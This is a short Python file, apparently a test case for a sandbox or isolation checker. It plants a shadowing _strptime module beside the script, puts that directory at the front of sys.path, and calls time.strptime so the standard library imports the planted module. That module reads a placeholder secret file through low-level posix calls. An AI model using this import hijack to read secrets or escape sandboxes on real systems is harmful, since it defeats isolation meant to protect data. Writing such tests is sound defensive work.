# technique: sys.path is told to look in our directory; a package of the standard library imports from there lazily
# goal: read-secret
# source: search paths
# beside: _strptime.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
import sys
import time
sys.path.insert(0, __file__.rpartition('/')[0])
time.strptime('1', '%d')
